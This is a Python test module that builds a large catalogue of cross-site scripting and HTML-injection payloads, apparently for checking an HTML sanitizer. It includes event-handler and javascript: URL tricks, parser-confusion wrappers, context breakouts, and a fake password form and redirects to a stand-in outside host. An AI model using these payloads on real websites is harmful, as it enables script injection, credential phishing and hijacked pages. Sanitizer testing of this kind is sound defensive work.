"""What somebody might send instead of words: 300 and more texts that run, load, lead away or ask for input.

Each is a *deed* (what the attacker wants) in a *disguise* (how it is hidden from a filter that does not parse as a
browser does). ``hit()`` is what the tests listen for.
"""

# What is wanted: to run, to lead away, to ask for a password, to change what links mean, to load, to cover the page.
DEEDS = {
    "script": "<script>hit()</script>",
    "image": "<img src=x onerror=hit()>",
    "image, attribute with a slash": '<img/src="x"/onerror="hit()">',
    "svg": "<svg onload=hit()>",
    "svg, animation": "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "svg, script": "<svg><script>hit()</script></svg>",
    "svg, link": '<svg><a xlink:href="javascript:hit()"><text y=20>here</text></a></svg>',
    "math": '<math href="javascript:hit()">here</math>',
    "math in style": "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "frame": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "frame, address": '<iframe src="javascript:parent.hit()"></iframe>',
    "object": '<object data="javascript:hit()"></object>',
    "embed": '<embed src="javascript:hit()">',
    "details": "<details open ontoggle=hit()>",
    "video": "<video><source onerror=hit()></video>",
    "focus": "<b tabindex=0 autofocus onfocus=hit()>here</b>",
    "refresh": '<meta http-equiv=refresh content="0;url=/leads/away/">',
    "base": '<base href="https://elsewhere.example.org/">',
    "form": '<form action="https://elsewhere.example.org/"><input name=password><button>Go on</button></form>',
    "link": '<a href="https://elsewhere.example.org/">Go on</a>',
    "script link": '<a href="javascript:hit()">Go on</a>',
    "script link, control characters": '<a href="\x01java\tscr\nipt:hit()">Go on</a>',
    "script link, entities": '<a href="&#106;avascript&colon;hit&lpar;&rpar;">Go on</a>',
    "data link": '<a href="data:text/html,<script>hit()</script>">Go on</a>',
    "foreign key of a link": '<a id="a99">Go on</a>',
    "style": "<style>body{display:none}@import 'https://elsewhere.example.org/x.css';</style>",
    "style attribute": '<b style="position:fixed;inset:0;background:url(https://elsewhere.example.org/)">x</b>',
    "stylesheet": '<link rel=stylesheet href="https://elsewhere.example.org/x.css">',
    "template": "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "button": '<button formaction="javascript:hit()">Go on</button>',
}

DISGUISES = {
    "open": "{}",
    "capitals": "<B>x</B>{}",
    "CDATA": "<![CDATA[>{}]]>",
    "comment that ends early": "<!-->{}-->",
    "comment that ends early, with a dash": "<!--->{}-->",
    "comment that ends with a bang": "<!--x--!>{}-->",
    "processing instruction": "<?xml >{}?>",
    "declaration": "<!x>{}",
    "false end tag": "</ >{}",
    "in a mark": "<b><![CDATA[>{}]]></b>",
    "after half a tag": "<b title='{}'>x</b>{}",
    "in a title element": '<svg><title>{}</title></svg><noscript><p title="</noscript>{}">',
}


def _entities(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


PAYLOADS: dict[str, str] = {
    f"{deed}, {disguise}": form.replace("{}", text)
    for deed, text in DEEDS.items()
    for disguise, form in DISGUISES.items()
}
# Text that is no markup and must stay text: entities that a second reading would turn into markup.
PAYLOADS |= {f"{deed}, entities": _entities(text) for deed, text in DEEDS.items()}
PAYLOADS |= {
    "deep": "<b>" * 5_000 + "<img src=x onerror=hit()>",
    "deep and broken": "<b><i><a>" * 2_000 + "<p><script>hit()</script>",
    "deep divisions": "<div>" * 5_000 + "<svg onload=hit()>",
    "long": "a" * 30_000 + "<img src=x onerror=hit()>",
    "half a tag": "x<img src=x onerror=hit() ",
    "a zero byte": "<scr\x00ipt>hit()</script>",
}

# Words in places where a page has words, attributes, or data for a script: each ends one of those, and runs.
BREAKOUTS = {
    "text": "<img src=x onerror=hit()>",
    "double quotes": '"><img src=x onerror=hit()>',
    "single quotes": "'><img src=x onerror=hit()>",
    "attribute": '" autofocus tabindex=0 onfocus=hit() x="',
    "attribute, single": "' autofocus tabindex=0 onfocus=hit() x='",
    "script": "</script><script>hit()</script>",
    "string of a script": '";hit();//\';hit();//\\";hit();//',
    "template string": "${hit()}`;hit();`",
    "title": "</title><svg onload=hit()>",
    "textarea": "</textarea></select><svg onload=hit()>",
    "style": "</style></noscript></template><img src=x onerror=hit()>",
    "comment": "--><img src=x onerror=hit()><!--",
    "CDATA": "]]><img src=x onerror=hit()>",
    "read twice": "&lt;img src=x onerror=hit()&gt;",
    "read three times": "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "escaped for a script": "\\u003cimg src=x onerror=hit()\\u003e",
    "address": "javascript:hit()//<img src=x onerror=hit()>",
    "template of a server": "{% load static %}{{ 7|add:7 }}<svg onload=hit()>",
}
